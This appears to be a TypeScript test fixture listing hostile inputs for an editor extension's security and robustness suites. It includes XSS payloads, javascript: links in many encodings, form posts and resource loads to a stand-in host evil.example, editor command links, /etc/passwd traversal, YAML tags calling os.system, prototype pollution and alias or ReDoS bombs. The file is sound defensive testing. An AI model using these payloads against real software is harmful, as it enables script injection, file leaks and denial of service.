/**
 * The catalogue of hostile inputs: documents and pattern models written to make the extension
 * run script, load something, navigate, leak a file, pollute a prototype, hang or crash. The
 * hostile test suites push every one through every entry point (analysis, render, export, hover
 * card, model loader, CLI, the editor tiers), and the bench times each, so one list defines what
 * "hostile" means everywhere.
 *
 * Big inputs are built lazily (`make()`), so listing the catalogue costs nothing.
 */

export type HostileKind = 'document' | 'model';

export interface HostileInput {
  readonly name: string;
  readonly kind: HostileKind;
  /** What the attack tries: script, load, navigate, leak, pollute, hang, crash. */
  readonly threat: 'script' | 'load' | 'navigate' | 'leak' | 'pollute' | 'hang' | 'crash';
  readonly make: () => string;
  /** Large inputs: the editor tiers skip them (they test the same code paths with the small ones). */
  readonly large?: boolean;
}

/** The front matter of an ordinary analysis, so attacks also reach the pattern-aware code paths. */
export const FRONT = '---\npattern: ai-infrastructure\nsubject: CoreWeave\nperiod: FY2025\n---\n\n# CoreWeave\n\n';

const doc = (body: string): string => `${FRONT}${body}\n`;

const JS = 'javascript:alert(1)';

/** `javascript:` as a browser would still read it, in every encoding markdown lets through. */
export const SCHEME_VARIANTS: readonly string[] = [
  JS,
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java%0Ascript:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  'javascript&colon;alert(1)',
  '%6Aavascript:alert(1)',
  'jav&#x09;ascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'file:///etc/passwd',
  'command:workbench.action.terminal.new',
  'command:_workbench.downloadResource?%5B%22https%3A%2F%2Fevil.example%22%5D',
  'vscode://vscode.git/clone?url=https%3A%2F%2Fevil.example',
  'vscode-file://vscode-app/etc/passwd',
];

const deep = (prefix: string, levels: number, tail = 'deep text'): string => `${prefix.repeat(levels)}${tail}`;

/** Runs of `mark` of every length from 1 to `max`, each followed by `between`: about max²/2 characters. */
const growingRuns = (mark: string, max: number, between: string): string => Array.from({ length: max }, (_, i) => `${mark.repeat(i + 1)}${between}`).join('');

/**
 * One family per scanner over document text (inline code, links, emphasis, tables, HTML comments,
 * front matter), built so that a scan searching forward from each opener (or once per distinct
 * run length) is quadratic: the review's 2 MB backtick line took 7.4 s to lint and 9.1 s to render.
 * The others are sized (0.2 to 0.8 MB) for markdown-it, which is linear on them but spends about
 * 5 s per MB of emphasis runs or table cells on this machine. Large: the editor tiers run the same
 * code on the small inputs.
 */
export const PATHOLOGICAL_FAMILIES: readonly HostileInput[] = [
  { name: 'pathological backticks: runs of every length 1..2000 on one line', kind: 'document', threat: 'hang', large: true, make: () => doc(growingRuns('`', 2000, 'x')) },
  { name: 'pathological backticks: unclosed runs of every length, one per line', kind: 'document', threat: 'hang', large: true, make: () => doc(Array.from({ length: 2000 }, (_, i) => `GPU utilization ${'`'.repeat(i + 1)} was 72%`).join('\n')) },
  { name: 'pathological brackets: 50,000 unclosed link openings, 20,000 image openings', kind: 'document', threat: 'hang', large: true, make: () => doc(`${'[x]('.repeat(50_000)}\n\n${'[a]'.repeat(50_000)}\n\n${'!['.repeat(20_000)}`) },
  { name: 'pathological emphasis: runs of * and _ of every length 1..500', kind: 'document', threat: 'hang', large: true, make: () => doc(`${growingRuns('*', 500, 'a')}\n\n${growingRuns('_', 500, 'b ')}\n\n${growingRuns('~', 300, 'c')}`) },
  { name: 'pathological table pipes: 1,000 columns, 60 rows, escaped pipes', kind: 'document', threat: 'hang', large: true, make: () => doc(`| GPU Utilization Rate ${'| a '.repeat(1000)}|\n${'| --- '.repeat(1001)}|\n${`| 72% ${'| \\| '.repeat(1000)}|\n`.repeat(60)}`) },
  { name: 'pathological HTML comments: unclosed and nested openings on 40,000 lines', kind: 'document', threat: 'hang', large: true, make: () => doc(`${'<!-- <!-- GPU utilization 72% <!--\n'.repeat(20_000)}${'<!---->-->'.repeat(20_000)}\n<!-- never closed\n${'x -- > 5%\n'.repeat(20_000)}`) },
  { name: 'pathological front matter: 998 lines of aliases doubling each line', kind: 'document', threat: 'hang', make: () => ['---', 'pattern: ai-infrastructure', 'a0: &a0 [lol, lol]', ...Array.from({ length: 995 }, (_, i) => `a${i + 1}: &a${i + 1} [*a${i}, *a${i}]`), 'title: *a995', 'subject: [*a995, *a995]', '---', '', '# Doubling', ''].join('\n') },
];

export const HOSTILE_INPUTS: readonly HostileInput[] = [
  // --- script and event handlers -------------------------------------------------------------
  { name: 'script element', kind: 'document', threat: 'script', make: () => doc('<script>window.__pa_pwned = 1; alert(1)</script>\n\nGPU utilization was 72%.') },
  { name: 'inline script in a paragraph', kind: 'document', threat: 'script', make: () => doc('Text <script>alert(1)</script> and <ScRiPt src=https://evil.example/x.js></ScRiPt> more.') },
  { name: 'event-handler attributes', kind: 'document', threat: 'script', make: () => doc('<img src=x onerror=alert(1)>\n\n<div onmouseover="alert(1)">hover</div>\n\n<svg/onload=alert(1)>') },
  { name: 'attribute break-out through a link title', kind: 'document', threat: 'script', make: () => doc('[deck](https://example.com "x\\" onmouseover=\\"alert(1)") and ![i](x.png "a\' onerror=\'alert(1)")') },
  { name: 'script in front matter', kind: 'document', threat: 'script', make: () => '---\npattern: ai-infrastructure\ntitle: "<script>alert(1)</script>"\nsubject: "<img src=x onerror=alert(1)>"\nauthor: "[x](javascript:alert(1))"\n---\n\n# Body\n' },
  // --- dangerous link schemes, every encoding ---------------------------------------------------
  { name: 'javascript: links in every encoding', kind: 'document', threat: 'script', make: () => doc(SCHEME_VARIANTS.map((u, i) => `- [link ${i}](${u})`).join('\n')) },
  { name: 'javascript: autolinks and reference links', kind: 'document', threat: 'script', make: () => doc(`<${JS}> and [ref][r] and [r]\n\n[r]: ${JS}\n\n<vbscript:msgbox(1)>`) },
  { name: 'dangerous image sources', kind: 'document', threat: 'script', make: () => doc(SCHEME_VARIANTS.map((u, i) => `![img ${i}](${u})`).join('\n\n')) },
  // --- elements that load, navigate or submit ---------------------------------------------------
  { name: 'iframe and frames', kind: 'document', threat: 'load', make: () => doc('<iframe src="https://evil.example"></iframe>\n\n<iframe srcdoc="<script>alert(1)</script>"></iframe>\n\n<frameset><frame src=https://evil.example></frameset>') },
  { name: 'meta refresh', kind: 'document', threat: 'navigate', make: () => doc('<meta http-equiv="refresh" content="0;url=https://evil.example">\n\nText.') },
  { name: 'forms and inputs', kind: 'document', threat: 'leak', make: () => doc('<form action="https://evil.example/steal" method=post><input name=q autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">go</button></form>') },
  { name: 'object, embed, base, link, style', kind: 'document', threat: 'load', make: () => doc('<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">\n\n<base href="https://evil.example/">\n\n<link rel=stylesheet href=https://evil.example/x.css>\n\n<style>body{background:url(https://evil.example/track)}</style>') },
  { name: 'remote images (tracking pixels)', kind: 'document', threat: 'load', make: () => doc('![pixel](https://evil.example/pixel.png)\n\n![ref][p]\n\n[p]: http://evil.example/p.gif\n\n![proto](//evil.example/x.png)') },
  // --- files outside the document --------------------------------------------------------------
  { name: 'image path traversal', kind: 'document', threat: 'leak', make: () => doc('![a](../../etc/passwd)\n\n![b](..%2f..%2fetc%2fpasswd)\n\n![c](%2e%2e/%2e%2e/etc/passwd)\n\n![d](..\\..\\windows\\win.ini)\n\n![e](/etc/passwd)\n\n![f](C:/Windows/win.ini)\n\n![g](images/../../../../etc/shadow)') },
  // --- editor command links ----------------------------------------------------------------------
  { name: 'command: links', kind: 'document', threat: 'script', make: () => doc('[open terminal](command:workbench.action.terminal.new)\n\n<command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%22%7D>\n\n[x](COMMAND:patternAnalyst.reloadModels)') },
  { name: "the renderer's private marker characters", kind: 'document', threat: 'script', make: () => doc('GPU utilization \uE000\uE010\uE001 was 72% \uE002\uE011\uE001 and %EE%80%80%EE%80%90%EE%80%81.\n\n| Metric | Value |\n| --- | --- |\n| GPU Utilization Rate | 72%\uE000\uE019\uE019\uE001 |') },
  { name: 'thousands of scorecard markers', kind: 'document', threat: 'hang', make: () => doc('<!-- pattern-scorecard -->\n<!-- pattern-coverage -->\n'.repeat(5_000)) },
  // --- prototype pollution and YAML tricks ---------------------------------------------------------
  { name: '__proto__ keys in front matter', kind: 'document', threat: 'pollute', make: () => '---\n__proto__:\n  polluted: true\nconstructor:\n  prototype:\n    polluted: true\npattern: ai-infrastructure\n---\n\n# x\n' },
  { name: 'YAML alias bomb', kind: 'document', threat: 'hang', make: () => `---\npattern: ai-infrastructure\na: &a ["x","x","x","x","x","x","x","x","x","x"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f,*f]\nh: [*g,*g,*g,*g,*g,*g,*g,*g,*g,*g]\n---\n\n# bomb\n` },
  { name: 'YAML alias bomb nine levels deep in the title', kind: 'document', threat: 'hang', make: () => aliasBomb(9, 9) },
  { name: 'YAML list that contains itself', kind: 'document', threat: 'crash', make: () => '---\npattern: ai-infrastructure\ntitle: &t [*t]\nsubject: &s [CoreWeave, *s]\nauthor: &a\n  - *a\n---\n\n# Cycle\n' },
  { name: 'YAML language-specific tags', kind: 'document', threat: 'script', make: () => '---\npattern: !!js/function "function () { globalThis.__pa_pwned = 1 }"\nsubject: !!python/object/apply:os.system ["id"]\nperiod: !<tag:yaml.org,2002:js/undefined> ""\n---\n\n# tags\n' },
  { name: 'front matter that never closes', kind: 'document', threat: 'crash', make: () => `---\npattern: ai-infrastructure\nsubject: x\n${'key: value\n'.repeat(20_000)}` },
  // --- bytes that are not text -------------------------------------------------------------------
  { name: 'NUL bytes', kind: 'document', threat: 'crash', make: () => doc('GPU\u0000 utilization was 7\u00002%.\n\n\u0000\u0000\u0000 [x](java\u0000script:alert(1)) <scr\u0000ipt>alert(1)</script>') },
  { name: 'broken UTF-8 and lone surrogates', kind: 'document', threat: 'crash', make: () => doc(`${Buffer.from([0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1, 0xf0, 0x90, 0x28, 0xbc]).toString('utf8')} GPU utilization \ud800 was 72%\udfff.\n\n\u202eevil\u202c and zero\u200bwidth GPU\u200butilization 40%.`) },
  { name: 'binary file', kind: 'document', threat: 'crash', make: () => binaryNoise(64 * 1024, 7) },
  // --- size and depth ------------------------------------------------------------------------------
  { name: '10 MB document', kind: 'document', threat: 'hang', large: true, make: () => tenMegabytes() },
  { name: '10,000-level blockquote nesting', kind: 'document', threat: 'hang', make: () => doc(deep('>', 10_000)) },
  { name: '10,000-level list nesting', kind: 'document', threat: 'hang', make: () => doc(`${'- '.repeat(10_000)}deep item\n\n${'1. '.repeat(10_000)}deep ordered item`) },
  { name: '10,000 nested brackets and emphasis', kind: 'document', threat: 'hang', make: () => doc(`${'['.repeat(10_000)}x${'](y)'.repeat(10_000)}\n\n${'*'.repeat(10_000)}a${'*'.repeat(10_000)}\n\n${'<'.repeat(10_000)}`) },
  { name: 'one paragraph of 30,000 sentences, each a claim for another period', kind: 'document', threat: 'hang', large: true, make: () => doc('GPU utilization was 80% in Q1 2024 [1]. '.repeat(30_000) + '\n\n[1]: https://example.com') },
  { name: '100,000-character line', kind: 'document', threat: 'hang', make: () => doc('GPU utilization was 72% '.repeat(4_200)) },
  { name: '100,000-character table row', kind: 'document', threat: 'hang', make: () => doc(`| Metric | Value |\n| --- | --- |\n| GPU Utilization Rate ${'| 72% '.repeat(20_000)}|`) },
  { name: '100,000 digits and separators', kind: 'document', threat: 'hang', make: () => doc(`${'1,'.repeat(50_000)}000% and ${'9'.repeat(100_000)}% and ${'~'.repeat(50_000)}5%`) },
  { name: 'metric names repeated 20,000 times on a line', kind: 'document', threat: 'hang', make: () => doc('GPU Utilization Rate '.repeat(20_000)) },
  { name: 'near-miss names 20,000 times', kind: 'document', threat: 'hang', make: () => doc(Array.from({ length: 20_000 }, (_, i) => `GPU Utilisation Rat ${i % 100}% Coreweave`).join('\n')) },
  // --- pathological text for each scanner over document text (every one must stay linear) --------
  ...PATHOLOGICAL_FAMILIES,
  // --- pattern models ------------------------------------------------------------------------------
  { name: 'model: HTML and script in strings', kind: 'model', threat: 'script', make: () => hostileModel({ name: 'AI <script>alert(1)</script> Infra', tagline: '<img src=x onerror=alert(1)>', metricName: 'GPU <b onmouseover=alert(1)>Rate</b>', companyNote: '<iframe src=https://evil.example></iframe>' }) },
  { name: 'model: command: and javascript: links in strings', kind: 'model', threat: 'script', make: () => hostileModel({ name: 'AI Infra [click](command:workbench.action.terminal.new)', tagline: '[x](javascript:alert(1)) <command:workbench.action.reloadWindow>', metricName: 'GPU Rate [run](command:patternAnalyst.reloadModels)', companyNote: '![pixel](https://evil.example/p.png) [x](file:///etc/passwd)' }) },
  { name: 'model: __proto__, constructor and prototype keys', kind: 'model', threat: 'pollute', make: () => protoModel() },
  { name: 'model: NUL bytes', kind: 'model', threat: 'crash', make: () => hostileModel({ name: 'AI\u0000Infra' }).replace('"schemaVersion"', '"schema\u0000Version"') },
  { name: 'model: 10,000-level JSON nesting', kind: 'model', threat: 'hang', make: () => `{"schemaVersion":1,"id":"deep","name":"Deep","sections":${'['.repeat(10_000)}${']'.repeat(10_000)}}` },
  { name: 'model: broken UTF-8 and binary', kind: 'model', threat: 'crash', make: () => binaryNoise(16 * 1024, 11) },
  { name: 'model: 20 aliases of 2,000 repeated words', kind: 'model', threat: 'hang', make: () => repetitiveAliasModel(20, 2000) },
  { name: 'model: a key written twice', kind: 'model', threat: 'crash', make: () => hostileModel({}).replace('"id":"hostile-pattern"', '"id":"first-id","name":"First","id":"second-id"') },
  { name: 'model: 10 MB of strings', kind: 'model', threat: 'hang', large: true, make: () => hostileModel({ tagline: 'x'.repeat(10 * 1024 * 1024) }) },
];

/**
 * Front matter whose `title` expands, through YAML aliases, to `width ** levels` copies of "lol":
 * 474 bytes for 9 × 9 (the security review's reproducer), a billion strings if walked naively.
 */
export function aliasBomb(levels: number, width: number): string {
  const list = (item: string): string => `[${Array.from({ length: width }, () => item).join(',')}]`;
  const lines = ['---', 'pattern: ai-infrastructure', `l0: &l0 ${list('"lol"')}`];
  for (let i = 1; i < levels - 1; i++) lines.push(`l${i}: &l${i} ${list(`*l${i - 1}`)}`);
  lines.push(`title: ${list(`*l${levels - 2}`)}`, '---', '', '# Bomb', '');
  return lines.join('\n');
}

/** Bytes that are not text, decoded as UTF-8 the way an editor would open them (seeded, so stable). */
export function binaryNoise(size: number, seed: number): string {
  const buf = Buffer.alloc(size);
  let s = seed >>> 0;
  for (let i = 0; i < size; i++) {
    s = (Math.imul(s, 1664525) + 1013904223) >>> 0;
    buf[i] = s >>> 24;
  }
  return buf.toString('utf8');
}

let tenMb: string | undefined;
function tenMegabytes(): string {
  if (tenMb === undefined) {
    const para = 'CoreWeave reported GPU utilization of 72% and customer retention of 96%, [deck](https://example.com) `code` *em*.\n\n';
    const table = '| Metric | Value |\n| --- | --- |\n| GPU Utilization Rate | 84% |\n| Customer Retention | 91% |\n\n';
    const block = `## Section\n\n${para.repeat(8)}${table}`;
    tenMb = FRONT + block.repeat(Math.ceil((10 * 1024 * 1024) / block.length));
  }
  return tenMb;
}

interface ModelStrings {
  readonly name?: string;
  readonly tagline?: string;
  readonly metricName?: string;
  readonly companyNote?: string;
}

/** A valid model shape carrying hostile strings where a card or the tree will show them. */
export function hostileModel(s: ModelStrings): string {
  return JSON.stringify({
    schemaVersion: 1,
    id: 'hostile-pattern',
    number: 99,
    name: s.name ?? 'Hostile Pattern',
    tagline: s.tagline ?? 'A model written to attack the extension',
    aliases: ['Pattern 99'],
    source: { publisher: 'Evil <b>Corp</b>', headerLines: ['<script>alert(1)</script>'] },
    sections: [
      { id: 'the-pattern', kind: 'prose', title: 'The <em>Pattern</em>', paragraphs: ['<script>alert(1)</script> [x](command:workbench.action.terminal.new)'] },
      { id: 'key-metrics', kind: 'metrics', title: 'Key Metrics' },
      { id: 'who-uses', kind: 'companies', title: 'Who Uses This Pattern' },
      { id: 'strengths-weaknesses', kind: 'strengthsWeaknesses', title: 'Strengths <script>alert(1)</script>' },
    ],
    metrics: [
      {
        id: 'hostile-rate',
        name: s.metricName ?? 'Hostile Rate',
        benchmarkText: '>80% <script>alert(1)</script>',
        benchmark: { comparator: '>', value: 80, basis: '<img src=x onerror=alert(1)>' },
        unit: { kind: 'percent', label: '% [x](command:workbench.action.terminal.new)', min: 0, max: 100 },
        aliases: ['hostile rate alias'],
        extensionNote: { definition: '<a href="javascript:alert(1)">definition</a>', direction: 'higher' },
      },
    ],
    companies: [{ id: 'evil-corp', name: 'Evil Corp', note: s.companyNote ?? 'An <b>evil</b> company', aliases: [] }],
    strengths: ['<script>alert(1)</script>'],
    weaknesses: ['[x](command:workbench.action.terminal.new)'],
  });
}

/**
 * A valid model except that its metric has `count` aliases of about `words` repeated words ("a a a
 * … a", each a different length so all are distinct names): the review's model that made a
 * document line of the same words take 27 s to check.
 */
export function repetitiveAliasModel(count: number, words: number): string {
  const model = JSON.parse(hostileModel({})) as { metrics: { aliases: string[] }[] };
  model.metrics[0].aliases = Array.from({ length: count }, (_, i) => Array.from({ length: words - i }, () => 'a').join(' '));
  return JSON.stringify(model);
}

function protoModel(): string {
  const base = JSON.parse(hostileModel({})) as Record<string, unknown>;
  // JSON.stringify cannot write an own "__proto__" key from an object literal: splice it in as text.
  const text = JSON.stringify(base);
  return text
    .replace('{"schemaVersion"', '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"schemaVersion"')
    .replace('"id":"hostile-rate"', '"__proto__":{"polluted":true},"id":"hostile-rate"')
    .replace('"source":{', '"source":{"prototype":{"polluted":true},');
}

export function hostileDocuments(): HostileInput[] {
  return HOSTILE_INPUTS.filter((h) => h.kind === 'document');
}

export function hostileModels(): HostileInput[] {
  return HOSTILE_INPUTS.filter((h) => h.kind === 'model');
}
